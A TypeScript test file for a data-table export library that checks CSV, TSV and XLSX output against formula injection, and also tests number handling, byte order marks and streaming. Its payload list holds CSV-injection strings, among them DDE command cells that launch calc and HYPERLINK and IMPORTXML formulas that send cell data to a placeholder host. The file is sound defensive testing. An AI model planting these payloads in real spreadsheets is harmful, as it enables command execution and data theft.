import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { streamTable } from "@/lib/export/table";
import { headerLine, rowLine, streamDelimited, toDelimited } from "@/lib/export/table/delimited";
import { looksLikeFormula, neutralized } from "@/lib/export/table/formula";
import { tableOf } from "@/lib/export/table/table-of";
import { toXlsx } from "@/lib/export/table/xlsx";
import { readCsv, readXlsx } from "./read-files";

/** OWASP, "CSV Injection", and payloads that its testing guides list; made-up cells, none of them from the dataset. */
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://made-up.invalid?leak="&A1,"click")',
  '=IMPORTXML(CONCAT("http://made-up.invalid?",A1),"//a")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  " =1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "|calc",
  "%0A=1+1".replace("%0A", "\n"),
  "\u00ad=1+1",
  "\u202e=1+1",
];

/** Cells in which a semicolon begins another, where that is the list separator. */
const WITHIN = [
  ["a;=1+1", "a;'=1+1"],
  ['";=1+1', "\";'=1+1"],
  ["a;\u200b@SUM(1)", "a;'\u200b@SUM(1)"],
  ["0.6; 0.5-0.7; -", "0.6; 0.5-0.7; -"],
] as const;

const REPORT = {
  id: "made-up/report",
  kind: "primary" as const,
  label: "Made-up 2020",
  year: 2020,
  journal: "Made-up Journal",
  pmid: null,
  doi: null,
  dataCutoff: null,
  medianFollowUpMonths: null,
  followUpByArm: null,
  secondary: null,
  trial: { id: "made-up", name: "MADE-UP", nct: "NCT00000000" },
};

const tableWith = (cells: readonly (string | number)[]) =>
  tableOf({
    title: "=made-up title",
    about: {
      url: "http://localhost",
      view: ["=1+1: =2"],
      datasetVersion: "made-up",
      time: "2026-11-25T00:00:00Z",
    },
    columns: [{ id: "cell", label: "=Cell", kind: "text", value: (cell: string | number) => cell }],
    rows: cells,
    key: String,
    report: () => REPORT,
    verified: () => true,
  });

const DANGEROUS = /^\s*[=+\-@|\uff1d\uff0b\uff0d\uff20\t\r\n]/u;

describe.each(PAYLOADS)("%j", (payload) => {
  it("runs in no CSV, TSV or workbook, and keeps all its text", async () => {
    for (const separator of [",", "\t"] as const) {
      const [head, row] = readCsv(toDelimited(tableWith([payload]), { separator }), separator);
      expect(row?.[0]).not.toMatch(DANGEROUS);
      expect(row?.[0]?.endsWith(payload)).toBe(true);
      expect(head?.[0]).toBe("'=Cell");
    }
    const { sheet } = readXlsx(await toXlsx(tableWith([payload])));
    for (const index of [0, 1, 2])
      for (const cell of sheet(index).rows.flat())
        if (typeof cell?.value === "string") expect(cell.value).not.toMatch(DANGEROUS);
  });
});

it.each(WITHIN)("%j is written as %j", (text, written) => {
  expect(readCsv(rowLine([text], { separator: "," }))[0]).toEqual([written]);
});

it("leaves numbers numbers: a negative one is no formula", async () => {
  expect(rowLine([-1.5, "-1.5", 0, null], { separator: "," })).toBe("-1.5,'-1.5,0,\r\n");
  expect(readXlsx(await toXlsx(tableWith([-1.5]))).sheet(0).rows[1]?.[0]).toEqual({ type: "n", value: -1.5 });
});

it("reads back whatever text there is, and none of it is dangerous", () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.string({ unit: "binary" }).filter((text) => !text.includes("\0")),
        { minLength: 1, maxLength: 5 },
      ),
      (texts) => {
        for (const separator of [",", "\t"] as const) {
          const [row] = readCsv(rowLine(texts, { separator }), separator);
          expect(row).toEqual(texts.map(neutralized));
          for (const field of row ?? []) expect(looksLikeFormula(field)).toBe(false);
        }
      },
    ),
  );
});

it("leaves plain text as it is", () => {
  for (const text of ["", "0.60", "<0.001", "PD-L1 TPS ≥50%", "(−5)", "a=b", "'quoted'"])
    expect(neutralized(text)).toBe(text);
});

it("begins with a byte order mark only on request", () => {
  const columns = [{ label: "Trial" }];
  expect(headerLine(columns, { separator: "," })).toBe("Trial\r\n");
  expect(headerLine(columns, { separator: ",", byteOrderMark: true })).toBe("\ufeffTrial\r\n");
});

it("a stream ends whose last rows just filled a piece, and one of batches without rows", async () => {
  async function* batches() {
    yield [];
    yield [{ values: ["x".repeat(70_000)] }];
    yield [];
  }
  const stream = streamDelimited(
    { columns: [{ id: "a", label: "A", kind: "text", digits: null }] },
    batches(),
    { separator: "," },
  );
  expect(await new Response(stream).text()).toHaveLength(3 + 70_002);
  const table = tableWith([]);
  expect(JSON.parse(await new Response(streamTable(table, once(table.rows), "json")).text())).toMatchObject({
    items: [],
    total: 0,
  });
});

async function* once<T>(value: T) {
  yield value;
}

it("asks for no rows ahead of its reader, and stops when that goes", async () => {
  const columns = [{ id: "a", label: "A", kind: "text" as const, digits: null }];
  let made = 0;
  async function* rows() {
    for (; made < 100_000; made += 500)
      yield Array.from({ length: 500 }, (_, at) => ({
        values: [`${"made-up text ".repeat(10)}${made + at}`],
      }));
  }
  const reader = streamDelimited({ columns }, rows(), { separator: "," }).getReader();
  await reader.read();
  const early = made;
  expect(early).toBeLessThan(5_000);
  await reader.cancel();
  expect(made).toBe(early);
});
